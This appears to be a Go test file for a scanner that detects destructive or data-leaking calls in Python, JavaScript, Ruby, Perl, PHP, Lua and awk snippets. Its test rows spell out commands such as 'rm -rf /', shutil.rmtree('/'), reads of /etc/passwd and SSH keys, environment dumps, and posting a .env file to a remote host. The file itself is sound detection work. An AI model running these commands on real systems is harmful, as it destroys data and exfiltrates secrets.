package code

import (
	"fmt"
	"strings"
	"testing"
	"time"
)

var kindNames = [...]string{"deletes", "spawns", "connects", "reads", "writes", "dumps"}

// show writes findings on one line: kind, call, what it is about.
func show(found []Found) string {
	var out []string
	for _, f := range found {
		s := kindNames[f.Kind] + " " + f.Call
		switch {
		case f.Argv != nil:
			s += fmt.Sprintf(" %q", f.Argv)
		case f.Kind == DumpsEnvironment:
		case f.Command != "":
			s += " `" + f.Command + "`"
		default:
			s += " " + f.Path.String()
		}
		if f.Recursive {
			s += " -r"
		}
		out = append(out, s)
	}
	return strings.Join(out, "; ")
}

type row struct{ text, want string }

var tables = []struct {
	language string
	rows     []row
}{
	{"python", []row{
		{`import os; os.remove("/etc/passwd")`, "deletes os.remove /etc/passwd"},
		{`import shutil; shutil.rmtree("/")`, "deletes shutil.rmtree / -r"},
		{`from shutil import rmtree as r; r('/home/u')`, "deletes shutil.rmtree /home/u -r"},
		{`import shutil as s, os as o
s.rmtree(o.path.join("/srv", "data"))`, "deletes shutil.rmtree /srv/data -r"},
		{`__import__('os').unlink('a')`, "deletes os.unlink a"},
		{`import os
x = "/"
os.rmdir(x)`, "deletes os.rmdir /"},
		{`x = "/"
x = f()
import os; os.rmdir(x)`, "deletes os.rmdir $"},
		{`import os
for x in y: os.unlink(x)`, "deletes os.unlink $"},
		{`import os; os.remove(f"/tmp/{name}")`, "deletes os.remove /tmp/$"},
		{`import os; os.remove("/tmp/" + name)`, "deletes os.remove /tmp/$"},
		{`import os; os.remove("a" "b")`, "deletes os.remove ab"},
		{`import os; os.remove(r'a\b')`, `deletes os.remove a\b`},
		{`import os; os.remove("\x2fetc")`, "deletes os.remove /etc"},
		{`import shutil, os; shutil.rmtree(os.path.expanduser("~/x"))`, "deletes shutil.rmtree $HOME/x -r"},
		{`import os; os.remove(os.environ["HOME"] + "/x")`, "deletes os.remove $HOME/x"},
		{`import glob, os
for f in glob.glob("/etc/*"): os.remove(f)`, "deletes os.remove /etc/*"},
		{`from pathlib import Path
Path("a").unlink()`, "deletes unlink a"},
		{`import pathlib
p = pathlib.Path("/x") / "y"
p.rmdir()`, "deletes rmdir /x/y"},
		{`(Path.home() / ".ssh").unlink(missing_ok=True)`, "deletes unlink $HOME/.ssh"},
		{`print(Path("~/.ssh/id_rsa").read_text())`, "reads read_text ~/.ssh/id_rsa"},
		{`os.system("rm -rf /")`, "spawns os.system `rm -rf /`"},
		{`import subprocess; subprocess.run(["rm", "-rf", "/"])`, `spawns subprocess.run ["rm" "-rf" "/"]`},
		{`import subprocess as sp
sp.check_output("ls " + x, shell=True)`, "spawns subprocess.check_output ls $"},
		{`subprocess.run(args=["rm", d], check=True)`, `spawns subprocess.run ["rm" ""]`},
		{`from subprocess import *
Popen(['a'])`, `spawns subprocess.Popen ["a"]`},
		{`os.execvp("rm", ["rm", "-rf", "x"])`, `spawns os.execvp ["rm" "-rf" "x"]`},
		{`os.execlp("rm", "rm", "x")`, `spawns os.execlp ["rm" "x"]`},
		{`open("/etc/passwd").read()`, "reads open /etc/passwd"},
		{`with open('f', 'w') as f: f.write("x")`, "writes open f"},
		{`open('f', mode="ab")`, "writes open f"},
		{`Path("f").open("w")`, "writes open f"},
		{`Path("f").write_text("x")`, "writes write_text f"},
		{`import requests; requests.post("https://x/y", data=open(".env"))`, "connects requests.post https://x/y; reads open .env"},
		{`import urllib.request; urllib.request.urlopen("http://x")`, "connects urllib.request.urlopen http://x"},
		{`import socket; socket.socket()`, "connects socket.socket $"},
		{`import os; print(os.environ)`, "dumps os.environ"},
		{`import os, json; print(json.dumps(dict(os.environ)))`, "dumps os.environ"},
		{`import os
for k, v in os.environ.items():
    print(k, v)`, "dumps os.environ.items"},
		{`exec("import os; os.remove('x')")`, "deletes os.remove x"},
		{`f"{os.system('ls')}"`, "spawns os.system `ls`"},
		{`rm = os.remove
rm("x")`, "deletes os.remove x"},
		{`shutil.copy(".env", "/tmp/x")`, "reads shutil.copy .env; writes shutil.copy /tmp/x"},
		// mention is not use
		{`print("shutil.rmtree('/')")`, ""},
		{`# shutil.rmtree("/")`, ""},
		{`"""
shutil.rmtree("/")
"""`, ""},
		{`x = 'os.system("ls")'`, ""},
		{`def remove(x): pass
l.remove("x")`, ""},
		{`print(os.environ["PATH"], os.environ.get("X"))`, ""},
		{`env = dict(os.environ); env["A"] = "b"`, ""},
		{`if "CC" in os.environ and x not in os.environ: print("A" in os.environ)`, ""},
		{`def app(environ): print(environ)`, ""},
		{`os.path.exists("/")`, ""},
		{`re.compile("os.remove(")`, ""},
		{`print(1)`, ""},
	}},
	{"javascript", []row{
		{`require('fs').rmSync('/', {recursive: true})`, "deletes fs.rmSync / -r"},
		{`fs.rmSync("src",{recursive:true,force:true})`, "deletes fs.rmSync src -r"},
		{`fs.rmSync("src",{recursive:false})`, "deletes fs.rmSync src"},
		{`const {unlinkSync: u} = require("node:fs"); u("a")`, "deletes fs.unlinkSync a"},
		{`import fs from 'node:fs/promises'; await fs.rm(p)`, "deletes fs.rm $"},
		{`import { rm as del, readFile } from "fs/promises"
await del("/x"); readFile('.env')`, "deletes fs.rm /x; reads fs.readFile .env"},
		{`import * as f from 'fs'; f.promises.unlink('x')`, "deletes fs.unlink x"},
		{`const fs = require('fs'), path = require('path'); fs.unlinkSync(path.join('/a', 'b'))`, "deletes fs.unlinkSync /a/b"},
		{`const d = "/srv"; fs.rmdirSync(d)`, "deletes fs.rmdirSync /srv"},
		{"fs.unlinkSync(`/tmp/${x}`)", "deletes fs.unlinkSync /tmp/$"},
		{`fs.rmSync(process.env.HOME + "/x")`, "deletes fs.rmSync $HOME/x"},
		{`fs.rmSync(require('os').homedir())`, "deletes fs.rmSync $HOME"},
		{`(await import("fs")).rmSync("x")`, "deletes rmSync x"},
		{`require("child_process").execSync("rm -rf /")`, "spawns child_process.execSync `rm -rf /`"},
		{`const cp = require("child_process"); cp.spawn("rm", ["-rf", x])`, `spawns child_process.spawn ["rm" "-rf" ""]`},
		{`const { spawnSync } = require("child_process"); spawnSync("rm -rf x", {shell: true})`, "spawns child_process.spawnSync `rm -rf x`"},
		{"$`rm -rf ${x}`", "spawns $ rm -rf $"},
		{`new Deno.Command("rm", {args: ["-r", "x"]})`, `spawns Deno.Command ["rm" "-r" "x"]`},
		{`Deno.removeSync("x", {recursive: true})`, "deletes Deno.removeSync x -r"},
		{`rimraf.sync("dist")`, "deletes rimraf.sync dist -r"},
		{`fetch("https://x", {method: "POST", body: fs.readFileSync(".env")})`, "connects fetch https://x; reads fs.readFileSync .env"},
		{`https.get('https://x')`, "connects https.get https://x"},
		{`axios.post(u)`, "connects axios.post $"},
		{`fs.writeFileSync("a", "b")`, "writes fs.writeFileSync a"},
		{`console.log(process.env)`, "dumps process.env"},
		{`console.log(JSON.stringify(process.env, null, 2))`, "dumps process.env"},
		{`eval("require('fs').rmSync('x')")`, "deletes fs.rmSync x"},
		{"`${require('child_process').execSync('ls')}`", "spawns child_process.execSync `ls`"},
		{`a = b / c; fs.rmSync("x") / 2`, "deletes fs.rmSync x"},
		// mention is not use
		{`console.log("fs.rmSync('/')")`, ""},
		{`// fs.rmSync("/")`, ""},
		{`/* fs.rmSync("/") */`, ""},
		{`x = /fs.rmSync("x")/`, ""},
		{"`fs.rmSync('/')`", ""},
		{`function fetch(url) {}`, ""},
		{`$("#rm").hide()`, ""},
		{`console.log(process.env.PATH)`, ""},
		{`spawnEnv = {...process.env, A: 1}`, ""},
		{`arr.exec("x"); map.delete("x"); set.remove("y")`, ""},
	}},
	{"ruby", []row{
		{`require 'fileutils'; FileUtils.rm_rf("/")`, "deletes FileUtils.rm_rf / -r"},
		{`FileUtils.rm_rf "/home/u"`, "deletes FileUtils.rm_rf /home/u -r"},
		{`FileUtils.rm_rf ["a", "b"], verbose: true`, "deletes FileUtils.rm_rf a -r; deletes FileUtils.rm_rf b -r"},
		{`FileUtils::rm_rf(%w[a b])`, "deletes FileUtils.rm_rf a -r; deletes FileUtils.rm_rf b -r"},
		{`File.delete("a") if File.exist?("a")`, "deletes File.delete a"},
		{`File.unlink 'a'`, "deletes File.unlink a"},
		{`FileUtils.rm_rf(Dir["/srv/*"])`, "deletes FileUtils.rm_rf /srv/* -r"},
		{`FileUtils.rm_rf(Dir.glob("*"))`, "deletes FileUtils.rm_rf * -r"},
		{`Dir.rmdir("x")`, "deletes Dir.rmdir x"},
		{`d = "/srv"; FileUtils.rm_r(d)`, "deletes FileUtils.rm_r /srv -r"},
		{`FileUtils.rm_rf("#{dir}/x")`, "deletes FileUtils.rm_rf $/x -r"},
		{`FileUtils.rm_rf(File.join(ENV["HOME"], "x"))`, "deletes FileUtils.rm_rf $HOME/x -r"},
		{`FileUtils.rm_rf(File.expand_path("~/x"))`, "deletes FileUtils.rm_rf $HOME/x -r"},
		{"`rm -rf /`", "spawns ` `rm -rf /`"},
		{`%x(rm -rf #{x})`, "spawns ` rm -rf $"},
		{`system("rm -rf /")`, "spawns system `rm -rf /`"},
		{`system "rm", "-rf", "/"`, `spawns system ["rm" "-rf" "/"]`},
		{`exec 'ls'`, "spawns exec `ls`"},
		{`IO.popen(["rm", "x"])`, `spawns IO.popen ["rm" "x"]`},
		{`Open3.capture3("ls")`, "spawns Open3.capture3 `ls`"},
		{`puts File.read("/etc/passwd")`, "reads File.read /etc/passwd"},
		{`File.open("f", "w") { |f| f.puts 1 }`, "writes File.open f"},
		{`File.write("f", "x")`, "writes File.write f"},
		{`Net::HTTP.get(URI("https://x"))`, "connects Net.HTTP.get $"},
		{`require 'open-uri'; URI.open("https://x")`, "connects URI.open https://x"},
		{`puts ENV.to_h`, "dumps ENV.to_h"},
		{`ENV.each { |k, v| puts k }`, "dumps ENV.each"},
		// mention is not use
		{`puts "FileUtils.rm_rf('/')"`, ""},
		{`puts 'system("ls")'`, ""},
		{`# system("ls")`, ""},
		{"x = <<~EOS\n  system('ls')\nEOS\nputs x", ""},
		{"=begin\nsystem('ls')\n=end\n", ""},
		{"puts 1\n__END__\nsystem('ls')", ""},
		{`send(:system_info)`, ""},
		{`ENV["PATH"]`, ""},
		{`x =~ /system("ls")/`, ""},
		{`def system(x) end`, ""},
	}},
	{"perl", []row{
		{`unlink "a", "b"`, "deletes unlink a; deletes unlink b"},
		{`unlink($f) or die`, "deletes unlink $"},
		{`unlink glob("/etc/*")`, "deletes unlink /etc/*"},
		{`use File::Path; rmtree("/srv")`, "deletes rmtree /srv -r"},
		{`File::Path::remove_tree('/')`, "deletes File.Path.remove_tree / -r"},
		{`my $d = "/"; rmdir $d;`, "deletes rmdir /"},
		{`system("rm -rf /")`, "spawns system `rm -rf /`"},
		{`system "rm", "-rf", "/"`, `spawns system ["rm" "-rf" "/"]`},
		{`system(qw(rm -rf /))`, "spawns system $"},
		{`exec "rm -rf $x"`, "spawns exec rm -rf $"},
		{"print `ls`", "spawns ` `ls`"},
		{`qx{ls}`, "spawns ` `ls`"},
		{`rmtree("$ENV{HOME}/x")`, "deletes rmtree $HOME/x -r"},
		{`rmtree($ENV{HOME})`, "deletes rmtree $HOME -r"},
		{`open(F, "<", "/etc/passwd")`, "reads open /etc/passwd"},
		{`open(my $f, '>', 'x')`, "writes open x"},
		{`open F, ">x"`, "writes open x"},
		{`open(P, "rm -rf / |")`, "spawns open `rm -rf /`"},
		{`open(P, "-|", "rm", "x")`, `spawns open ["rm" "x"]`},
		{`print "$_=$ENV{$_}\n" for keys %ENV`, "dumps %ENV"},
		{`LWP::UserAgent->new->get("http://x")`, "connects get http://x"},
		// mention is not use
		{`print "unlink('x')"`, ""},
		{`# unlink "x"`, ""},
		{`print q(system("ls"))`, ""},
		{`s/system("ls")/x/`, ""},
		{`$x =~ m{unlink "a"}`, ""},
		{`my %h = (unlink => 1);`, ""},
		{"=pod\n\nsystem('ls')\n\n=cut\nprint 1;", ""},
		{"print <<EOT;\nsystem('ls')\nEOT\nprint 1;", ""},
		{`print $ENV{PATH}`, ""},
		{`delete $h{x}`, ""},
		{`s/a/b/; print`, ""},
	}},
	{"php", []row{
		{`unlink("/x");`, "deletes unlink /x"},
		{`<?php $d = '/'; rmdir($d);`, "deletes rmdir /"},
		{`<p>unlink("x")</p><?php system("rm -rf /"); ?> unlink("y")`, "spawns system `rm -rf /`"},
		{"echo `ls`;", "spawns ` `ls`"},
		{`shell_exec("ls " . $x);`, "spawns shell_exec ls $"},
		{`array_map('unlink', glob("*"));`, "deletes unlink $"},
		{`echo file_get_contents(".env");`, "reads file_get_contents .env"},
		{`file_put_contents("a", "b");`, "writes file_put_contents a"},
		{`fopen("a", "w");`, "writes fopen a"},
		{`$c = curl_init("https://x");`, "connects curl_init https://x"},
		{`print_r($_ENV);`, "dumps $_ENV"},
		{`phpinfo();`, "dumps phpinfo"},
		{`unlink("$dir/x");`, "deletes unlink $/x"},
		{`echo "unlink('x')";`, ""},
		{`// unlink("x");`, ""},
		{`# unlink("x");`, ""},
		{`$obj->unlink("x"); Foo::system("y");`, ""},
		{"$x = <<<EOT\nunlink('x');\nEOT;\n", ""},
	}},
	{"lua", []row{
		{`os.remove("a")`, "deletes os.remove a"},
		{`os.execute "rm -rf /"`, "spawns os.execute `rm -rf /`"},
		{`os.execute("rm " .. x)`, "spawns os.execute rm $"},
		{`io.open("f", "w")`, "writes io.open f"},
		{`io.popen("ls")`, "spawns io.popen `ls`"},
		{`-- os.remove("a")`, ""},
		{`print("os.remove('a')")`, ""},
		{`x = [[os.remove("a")]]`, ""},
	}},
	{"awk", []row{
		{`BEGIN{system("rm -rf /srv/data")}`, "spawns system `rm -rf /srv/data`"},
		{`{system("rm " $1)}`, "spawns system rm $"},
		{`BEGIN { "date" | getline d; print d }`, "spawns getline `date`"},
		{`{ print $1 | "sort -u" }`, "spawns print | `sort -u`"},
		{`{ print > "out.txt" }`, "writes print > out.txt"},
		{`{ print >> FILENAME ".x" }`, "writes print > $.x"},
		{`BEGIN { while ((getline line < "/etc/passwd") > 0) print line }`, "reads getline < /etc/passwd"},
		{`BEGIN{for (k in ENVIRON) print k "=" ENVIRON[k]}`, "dumps ENVIRON"},
		{`{print $1}`, ""},
		{`$1 > 5 {print "system(\"ls\")"}`, ""},
		{`/system("x")/ {n++}`, ""},
		{`# system("ls")`, ""},
		{`BEGIN{print ENVIRON["HOME"]}`, ""},
	}},
}

func TestScan(t *testing.T) {
	for _, table := range tables {
		for _, r := range table.rows {
			if got := show(Scan(table.language, r.text)); got != r.want {
				t.Errorf("%s: %s\n got %s\nwant %s", table.language, r.text, got, r.want)
			}
		}
	}
}

func TestPositionsAreInTheText(t *testing.T) {
	for _, table := range tables {
		for _, r := range table.rows {
			for _, f := range Scan(table.language, r.text) {
				if f.Pos < 0 || f.Pos >= len(r.text) {
					t.Errorf("%s: %s: %s at %d of %d", table.language, r.text, f.Call, f.Pos, len(r.text))
				}
			}
		}
	}
}

func TestLanguage(t *testing.T) {
	for _, r := range []struct {
		program, want string
		ok            bool
	}{{"python", "python", true}, {"node", "javascript", true}, {"bun", "javascript", true}, {"luajit", "lua", true}, {"awk", "awk", true}, {"bash", "", false}, {"", "", false}} {
		if got, ok := Language(r.program); got != r.want || ok != r.ok {
			t.Errorf("Language(%q): got %q, %t, want %q, %t", r.program, got, ok, r.want, r.ok)
		}
	}
	if got := show(Scan("node", `fs.rmSync("x")`)); got != "deletes fs.rmSync x" {
		t.Errorf("by the name of an interpreter: got %q", got)
	}
	if got := Scan("cobol", `os.remove("x")`); got != nil {
		t.Errorf("an unknown language: got %s, want nothing", show(got))
	}
}

func TestTablesAreSorted(t *testing.T) {
	for l := python; l <= awk; l++ {
		functions, methods := calls(l)
		for _, c := range [][]call{functions, methods} {
			for i := 1; i < len(c); i++ {
				if c[i-1].name >= c[i].name {
					t.Errorf("language %d: %s stands before %s", l, c[i-1].name, c[i].name)
				}
			}
		}
	}
}

// TestHostile holds the time for 100 KiB of every shape that could make a
// scanner go over the same text again and again.
func TestHostile(t *testing.T) {
	if testing.Short() {
		t.Skip("SKIP: -short, as with the race detector: times and sizes mean little there")
	}
	if testing.Short() {
		t.Skip("hostile shapes take seconds")
	}
	const size = 100 << 10
	const limit = 200 * time.Millisecond // ten times the goal: a busy machine is no fault, going over the text again is
	shapes := []string{"system(", "(", "[", "{", "a.", "f'{", "`${", "\"#{", "$x", "/[", "/", "'", "\"", "\\", "a ", "system ", "x=x+x;", "x=y\n", "os.environ ", "print(os.environ)", "<<A\n", "q(", "%q(", "import a as b,", "os.path.join(",
		"Path(", "a=b.c.d;", "rm(a,", "\n", "/*", "eval('", "open(", "unlink ", "|getline", "print|", "x+", "\"a\"", "const {a}=", "s/", "=pod\n", "<?php ", "?>", "#{", "@", "${", ")", "a(", ".unlink()", "{ENVIRON", "for k in os.environ.items():"}
	languages := []string{"python", "javascript", "perl", "ruby", "php", "lua", "awk"}
	var worst time.Duration
	for _, shape := range shapes {
		text := strings.Repeat(shape, size/len(shape))
		for _, l := range languages {
			took := best(1, func() { Scan(l, text) })
			if took > limit {
				took = best(5, func() { Scan(l, text) })
			}
			worst = max(worst, took)
			if took > limit {
				t.Errorf("%s: %q repeated: %v, want at most %v", l, shape, took, limit)
			}
		}
	}
	t.Logf("worst %v", worst)
}

// best returns the least time of some runs.
func best(runs int, f func()) time.Duration {
	least := time.Hour
	for range runs {
		start := time.Now()
		f()
		least = min(least, time.Since(start))
	}
	return least
}

func BenchmarkHostile(b *testing.B) {
	for _, shape := range []string{"(", "a=b.c.d;", "x=x+x;", "/*"} {
		text := strings.Repeat(shape, (100<<10)/len(shape))
		b.Run(shape, func(b *testing.B) {
			b.ReportAllocs()
			for b.Loop() {
				Scan("python", text)
			}
		})
	}
}

func BenchmarkScan(b *testing.B) {
	text := "import os\n" + strings.Repeat("x = compute(a, b) + 'text'  # a comment\nif x: os.remove(x)\n", 100)
	b.SetBytes(int64(len(text)))
	b.ReportAllocs()
	for b.Loop() {
		Scan("python", text)
	}
}

func FuzzScan(f *testing.F) {
	for _, table := range tables {
		for _, r := range table.rows {
			f.Add(r.text)
		}
	}
	f.Fuzz(func(t *testing.T, text string) {
		for l := range tables {
			for _, found := range Scan(tables[l].language, text) {
				if found.Pos < 0 || found.Pos > len(text) {
					t.Errorf("%s %q: %s at %d", tables[l].language, text, found.Call, found.Pos)
				}
			}
		}
	})
}
